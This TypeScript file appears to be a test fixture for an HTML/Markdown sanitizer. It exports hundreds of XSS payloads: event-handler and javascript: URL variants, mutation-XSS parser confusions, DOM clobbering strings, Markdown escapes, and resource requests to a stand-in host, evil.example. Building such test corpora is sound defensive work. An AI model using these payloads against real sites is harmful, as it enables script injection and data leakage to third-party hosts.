import { PAYLOADS } from '../render-payloads.ts';

/** Elements that run a script as soon as they are in a page, without anybody's doing. */
const STARTERS: readonly string[] = [
  'img src=x onerror',
  'img srcset=x onerror',
  'image src=x onerror',
  'svg onload',
  'body onload',
  'body onpageshow',
  'iframe onload',
  'iframe srcdoc=x onload',
  'style onload',
  'script onerror src=x',
  'object data=x onerror',
  'embed src=x onerror',
  'link rel=stylesheet href=x onerror',
  'video src=x onerror',
  'audio src=x onerror',
  'video poster=x onerror><source onerror',
  'input autofocus onfocus',
  'input type=image src=x onerror',
  'textarea autofocus onfocus',
  'select autofocus onfocus',
  'button autofocus onfocus',
  'a tabindex=1 autofocus onfocus',
  'p contenteditable autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'svg><image href=x onerror',
  'svg><animate attributeName=x dur=1s onbegin',
  'svg><set attributeName=x to=1 onbegin',
  'svg><style onload',
  'math><mtext></mtext><img src=x onerror',
];
/** Ways to write the attribute that a parser reads alike and a pattern may not. */
const WRITINGS: readonly ((starter: string) => string)[] = [
  (starter) => `<${starter}=alert(1)>`,
  (starter) => `<${starter.toUpperCase()}="alert(1)">`,
  (starter) => `<${starter.replaceAll(' ', '/')}='alert(1)'>`,
  (starter) => `<${starter.replaceAll(' ', '\n\t')}\f=\f&#97;lert(1)>`,
  (starter) => `<${starter}=alert(1) `,
];

/** Elements that take an address which runs when it is opened. */
const OPENERS: readonly ((address: string) => string)[] = [
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<a href="${address}">words</a>`,
  (address) => `<form action="${address}"><button>words</button></form>`,
  (address) => `<svg><a href="${address}"><text>words</text></a></svg>`,
];
const ADDRESSES: readonly string[] = [
  'javascript:parent.alert(1)',
  'JaVaScRiPt:parent.alert(1)',
  ' javascript:parent.alert(1)',
  '&#1;javascript:parent.alert(1)',
  'java&Tab;script:parent.alert(1)',
  'java&NewLine;script&colon;parent.alert(1)',
  '&#x6A;avascript:parent.alert(1)',
  'javascript://a.example/%0aparent.alert(1)',
  'javascript:/*--></title></style></textarea></script>*/parent.alert(1)',
];

/** Places whose end, as one parser sees it and another does not, sets what is in them free. */
const PLACES: readonly (readonly [string, string])[] = [
  ['<noscript><p title="</noscript>', '">'],
  ['<textarea><p title="</textarea>', '">'],
  ['<title><p title="</title>', '">'],
  ['<xmp><p title="</xmp>', '">'],
  ['<noembed><p title="</noembed>', '">'],
  ['<noframes><p title="</noframes>', '">'],
  ['<style><p title="</style>', '">'],
  ['<iframe><p title="</iframe>', '">'],
  ['<!--><p title="-->', '">'],
  ['<!-- --!>', '-->'],
  ['<svg><style><p title="</style>', '">'],
  ['<math><mtext><table><mglyph><style><!--</style>', '--></table>'],
  ['<math><annotation-xml encoding=text/html><style>', '</style>'],
  ['<svg><desc><noscript>', '</noscript>'],
  ['<form><math><mtext></form><form><mglyph><style></math>', ''],
  ['<table><tr><td><table><a>', '</a></table>'],
  ['<select><option><style></option></select>', '</style>'],
  ['<template><style></template>', '</style>'],
  ['<p><svg><foreignObject><p>', '</p></svg>'],
  ['<a href="x"><table><caption><a>', '</table>'],
  ['<details><summary><ruby><rtc>', '</details>'],
  ['&lt;p&gt;</p><pre><code>', '</code></pre>'],
  ['<frameset><noframes></frameset>', '</noframes>'],
  ['<svg></p><title><![CDATA[', ']]></svg>'],
];
const CORES: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
];

const IMG = '<img src=x onerror=alert(1)>';
/** So deep that parsers start to flatten, and what was inside of an element comes to stand beside it. */
const DEEP = '<div>'.repeat(505);
/** What changes its meaning when it is read a second time, or between namespaces. */
const MUTATIONS: readonly string[] = [
  `<math><mtext><table><mglyph><svg><mtext><textarea><path title="</textarea>${IMG}">`,
  `<svg><p><style><g title="</style>${IMG}">`,
  `<svg><style>/*</style>${IMG}*/</svg>`,
  `<table><caption><svg><title><table><caption></caption></table></title><style><a title="</style>${IMG}"></a></style></svg></caption></table>`,
  `${DEEP}<table><caption><svg><title><table><caption></caption></table><style><a title="</style>${IMG}"></a></style></svg>`,
  `${DEEP}<svg><title><svg><style><p title="</style>${IMG}">`,
  `${DEEP}<math><annotation-xml encoding=text/html><style><p title="</style>${IMG}">`,
  `<form><math><mtext><form><mglyph><style><!--</style>${IMG}--></style>`,
  `<math><mtext><mglyph><style></math>${IMG}</style>`,
  `<svg><mtext><style><img title="</style>${IMG}"></svg>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><xmp></math>${IMG}</xmp>`,
  `<math><annotation-xml><foreignobject><style><!--</style>${IMG}-->`,
  `<svg><foreignObject><math><mi><style></svg>${IMG}</style>`,
  `<svg><desc><math><ms><p><style></p></svg>${IMG}`,
  `<select><template><xmp></select>${IMG}</xmp></template>`,
  `<select><button><selectedcontent></selectedcontent></button><option>${IMG}</option></select>`,
  `<svg><template><style></svg>${IMG}</style></template>`,
  `<noscript><xmp></noscript>${IMG}</xmp>`,
  `<noscript><!--</noscript>${IMG}-->`,
  `<noscript><textarea title="</noscript>${IMG}">`,
  `<div><template shadowrootmode=open>${IMG}<slot></slot></template>words</div>`,
  `<div><template shadowrootmode=closed shadowrootserializable><style>@import "//evil.example/a.css"</style>${IMG}</template></div>`,
  `<template><template>${IMG}</template></template><template>${IMG}`,
  `<a title="&lt;/a&gt;${IMG}" href="https://a.example/&lt;svg onload=alert(1)&gt;">words</a>`,
  `<p lang="en&quot;>${IMG}" title="</title></style></script></noscript></textarea></xmp>-->${IMG}">words</p>`,
  `<listing>&lt;img src=x onerror=alert(1)&gt;</listing><plaintext/><img src=x onerror=alert(1)>`,
  `<frameset><frame src="javascript:parent.alert(1)"></frameset>`,
  `<table><tbody><tr><td><form><table></form><form></table></form>${IMG}`,
  `<svg><a><rect></a><![CDATA[></svg>${IMG}]]>`,
  `<x-y is="script">alert(1)</x-y><svg><script href="data:,parent.alert(1)"/></svg>`,
  `<!doctype html [<!ENTITY e "${IMG}">]>&e;<?xml-stylesheet href="javascript:alert(1)"?>${IMG}`,
];

/** Names that stand for members of window or document where an element has them. */
const CLOBBERED: readonly string[] =
  'alert body cookie defaultView documentElement forms getElementById head location querySelectorAll self'
    .split(' ')
    .flatMap((name) => [
      `<form id=${name}><input name=attributes><input name=innerHTML><button>alert</button></form>`,
      `<a id=${name}></a><a id=${name} name=href href="cid:alert(1)">words</a><img name=${name} src=x onerror=alert(1)>`,
      `<iframe name=${name} srcdoc="<a id=x href='javascript:parent.alert(1)'>alert</a>"></iframe>`,
      // a footnote by that name
      `<p>words<sup id=${name}><a name=${name} href="#${name}2" onfocus=alert(1) autofocus>1</a></sup></p><ol class=footnotes><li
        id=${name}2 onclick=alert(1)><form id=${name}></form>1. alert <a href="#${name}" tabindex=1 onfocus=alert(1)>${IMG}↩</a></ol>`,
    ]);
/** Footnotes whose names try to end what they stand in. */
const NOTES: readonly string[] = [
  '"><img src=x onerror=alert(1)>',
  "'><script>alert(1)</script>",
  ']: javascript:alert(1)//',
  'javascript:alert(1)',
  '__proto__',
].flatMap((name) => {
  const written = name.replaceAll('"', '&quot;');
  return [
    `<p>words<sup><a id="r${written}" href="#${written}">[1]</a></sup></p><p id="${written}" class=footnote>1. ${IMG}alert <a
      href="#r${written}">^</a></p>`,
    `<p>words<sup><a href="#n" class="footnote ${written}" role="${written}">*</a></sup></p><p id=n title="${written}">* ${IMG}alert</p>`,
  ];
});

/** What asks another host for something, or leads there, without a script. */
const REQUESTS: readonly string[] = [
  '<meta http-equiv=refresh content="0; url=https://evil.example/alert">',
  '<meta http-equiv=&#82;efresh content="0;&#117;rl=data:text/html,<script>parent.alert(1)</script>">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv=set-cookie content="alert=1">',
  '<base href="javascript:/alert(1)//"><a href="%0aalert(1)//">words</a><form action="x"><button>b</button></form>',
  '<base href="https://evil.example/alert/" target="alert"><a href="a">words</a><link rel=stylesheet href=a.css>',
  '<base href="data:text/html,alert(1)//"><a href="x">words</a><iframe src="x"></iframe>',
  '<link rel=stylesheet href="//evil.example/alert.css"><link rel=preload as=image imagesrcset="//evil.example/alert 1x">',
  '<link rel=prefetch href="//evil.example/alert"><link rel=dns-prefetch href="//alert.evil.example"><link rel=icon href="//evil.example/alert">',
  '<style>@import url(//evil.example/alert.css);p{background:url(//evil.example/alert.png)}</style>',
  '<style>@font-face{font-family:x;src:url(//evil.example/alert.woff)}p{font-family:x;content:"</sty\\6ce>"}</style>',
  '<p style="background-image:url(https://evil.example/alert.png)">words</p><p style="b\\61ckground:u\\72l(//evil.example/alert)">words</p>',
  '<p style="list-style:url(&quot;//evil.example/alert&quot;);cursor:url(//evil.example/alert),auto">words</p>',
  '<svg><image href="https://evil.example/alert.png"/><use href="https://evil.example/alert.svg#x"/><feImage href="//evil.example/alert"/></svg>',
  '<svg><rect filter="url(https://evil.example/alert.svg#x)" fill="url(//evil.example/alert#y)"/></svg>',
  '<video poster="https://evil.example/alert"><track default src="https://evil.example/alert.vtt"></video>',
  '<audio autoplay src="https://evil.example/alert.mp3"></audio><embed src="https://evil.example/alert.swf">',
  '<object data="https://evil.example/alert"><param name=src value="https://evil.example/alert"></object>',
  '<iframe src="https://evil.example/alert" csp="alert" allow="alert"></iframe><script type=importmap>{"imports":{"x":"//evil.example/alert"}}</script>',
  '<script type=speculationrules>{"prerender":[{"urls":["https://evil.example/alert"]}]}</script><input type=image src="//evil.example/alert">',
  '<a href="https://evil.example/" ping="https://evil.example/alert" attributionsrc="//evil.example/alert">words</a>',
  '<body background="//evil.example/alert"><table background="//evil.example/alert"><tr><td background="//evil.example/alert">words</table>',
  '<img src=x onerror=alert(1) srcset="java&#9;script:alert(1) 1x, data:image/svg+xml;utf8,<svg/onload=alert(1)> 2x, \u0001javascript:alert(1) 3x">',
  '<picture><source srcset="&#106;avascript:alert(1) 1x" type="image/svg+xml"><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" onerror=alert(1)></picture>',
  '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><script>alert(1)</script></svg>" onload=alert(1)><img src="data:text/html,alert" onerror=alert(1)>',
];

/** Signs of Markdown, in which a renderer that lets HTML through finds what the page only spoke of. */
const SPOKEN: readonly string[] = [
  `&lt;img src=x onerror=alert(1)&gt;`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `[words](javascript:alert(1)) ![words](javascript:alert(1)) <a href="https://a.example/">](javascript:alert(1))</a>`,
  `&lt;javascript:alert(1)&gt; [words]: javascript:alert(1) [words][words]`,
  `<pre>\`\`\`\n\`\`\`\n&lt;img src=x onerror=alert(1)&gt;</pre>`,
  `<code>\`&lt;img src=x onerror=alert(1)&gt;\`\`</code> <code>\`</code>&lt;svg onload=alert(1)&gt;<code>\`</code>`,
  `<a href="https://a.example/)&lt;img%20src=x&gt;&lt;img src=x onerror=alert(1)&gt;" title="&quot;)&lt;img src=x onerror=alert(1)&gt;">words</a>`,
  `<img src="https://a.example/a.png" alt="](x)&lt;img src=x onerror=alert(1)&gt;" title='"&lt;svg onload=alert(1)&gt;'>`,
  `<table><tr><td>a|b<td>&lt;img src=x onerror=alert(1)&gt;|<tr><td>\\|&lt;svg onload=alert(1)&gt;<td>c</table>`,
  `<p>a<br>&lt;img src=x<br>onerror=alert(1)&gt;</p><p>&lt;!--</p>words<p>--&gt;&lt;svg onload=alert(1)&gt;</p>`,
  `<sup>&lt;/sup&gt;&lt;img src=x onerror=alert(1)&gt;</sup> <sub>&lt;</sub>img src=x onerror=alert(1)&gt;`,
  `&lt;<b>img src=x onerror=alert(1)</b>&gt; &lt;<!-- -->svg onload=alert(1)&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;`,
  `<pre lang="x&gt;&lt;img src=x onerror=alert(1)&gt;">a</pre><pre><code class="language-&lt;svg/onload=alert(1)&gt;">a</code></pre>`,
  `<h2>&lt;svg onload=alert(1)&gt;</h2><ul><li>&lt;svg onload=alert(1)&gt;<li>[x] [ ](javascript:alert(1))</ul>`,
];

/** Payloads of all kinds, a few hundred, each of which calls `alert` where it works. */
export const ACTIVE_PAYLOADS: readonly string[] = [
  ...PAYLOADS,
  ...STARTERS.flatMap((starter) => WRITINGS.map((write) => write(starter))),
  ...OPENERS.flatMap((open) => ADDRESSES.map(open)),
  ...MUTATIONS,
  ...CLOBBERED,
  ...NOTES,
  ...REQUESTS,
  ...PLACES.flatMap(([before, behind]) => CORES.map((core) => `${before}${core}${behind}`)),
];

/** Those, and what is only dangerous to whoever takes Markdown's text for HTML. */
export const MARKDOWN_PAYLOADS: readonly string[] = [...SPOKEN, ...ACTIVE_PAYLOADS];
